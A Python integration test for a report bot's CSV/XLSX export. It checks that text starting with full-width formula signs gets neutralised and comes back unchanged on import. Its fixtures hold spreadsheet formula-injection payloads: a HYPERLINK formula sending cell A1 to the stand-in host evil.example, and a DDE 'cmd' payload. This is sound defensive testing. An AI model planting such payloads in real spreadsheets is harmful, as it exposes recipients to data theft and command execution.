"""An export never holds a cell that a spreadsheet would run, full-width signs included.

Excel in Japanese, Chinese and Korean reads the full-width ＝ ＋ － ＠ (typed by any phone
keyboard in those scripts, or pasted) as = + - @ when it parses a cell: "＝HYPERLINK(...)" in
a report's notes became a live link in the manager's spreadsheet. Such text now gets the same
leading "'" in CSV (taken off again by an import) and Excel's quote prefix in XLSX.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.reports_io import (
    COLUMNS,
    ImportResult,
    export_reports,
    import_reports,
)
from models.queries import ensure_user
from tests.integration.training_reports import NOW, store_trainings

FULL_WIDTH = {
    "place": '＝HYPERLINK("http://evil.example/?"&A1,"Jacmel")',
    "partner": "＠SUM(1+1)",
    "notes": "＋cmd|' /C calc'!A0",
}
MINUS = "－2+3"


async def _store(session: AsyncSession) -> None:
    await store_trainings(session, (FULL_WIDTH, {"place": MINUS}))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_full_width_formula_signs_are_neutralised_and_import_back_unchanged(
    session_factory: async_sessionmaker[AsyncSession], tmp_path: Path, suffix: str
) -> None:
    async with session_factory() as session:
        await _store(session)
    path = tmp_path / f"reports{suffix}"
    async with session_factory() as session:
        assert await export_reports(session, path, date_from=None, date_to=None) == 2

    texts = [*FULL_WIDTH.values(), MINUS]
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.reader(stream))
        written = {row[COLUMNS.index(name)] for row in rows[1:] for name in FULL_WIDTH}
        assert {"'" + text for text in texts} <= written
    else:
        sheet = load_workbook(path)["training"]
        cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value in texts}
        assert sorted(cells) == sorted(texts)
        assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())

    async with session_factory() as session:
        author = await ensure_user(session, 5550001, "Officer", "en")
        again = await import_reports(session, path, author_user_id=author.id, now=NOW)
    assert again == ImportResult(created=0, unchanged=2, errors=[])  # the same text came back
